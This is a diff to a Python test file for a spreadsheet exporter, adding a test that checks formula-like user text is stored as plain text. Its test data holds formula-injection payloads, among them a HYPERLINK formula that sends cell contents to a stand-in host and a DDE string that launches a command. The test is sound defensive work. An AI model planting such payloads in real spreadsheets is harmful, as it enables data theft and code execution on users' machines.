@@ -1,6 +1,7 @@
 import csv
 import datetime as dt
 import io
+import pathlib
 
 import openpyxl
 import pytest
@@ -125,3 +126,13 @@ def test_a_bad_date_text_stays_an_error_each_time_it_is_read() -> None:
     for _ in range(2):  # date texts are parsed once and remembered; errors must not be
         with pytest.raises(ValidationError, match="无法识别"):
             cell_date("去年春天")
+
+
+def test_user_text_that_looks_like_a_formula_is_written_as_text(tmp_path: "pathlib.Path") -> None:
+    target = tmp_path / "out.xlsx"
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "平常文字"]
+    write_xlsx(str(target), [Sheet("名单", ["值"], [[v] for v in evil] + [[42]])])
+    sheet = openpyxl.load_workbook(target).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == [*evil, 42]
+    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "s", "n"]
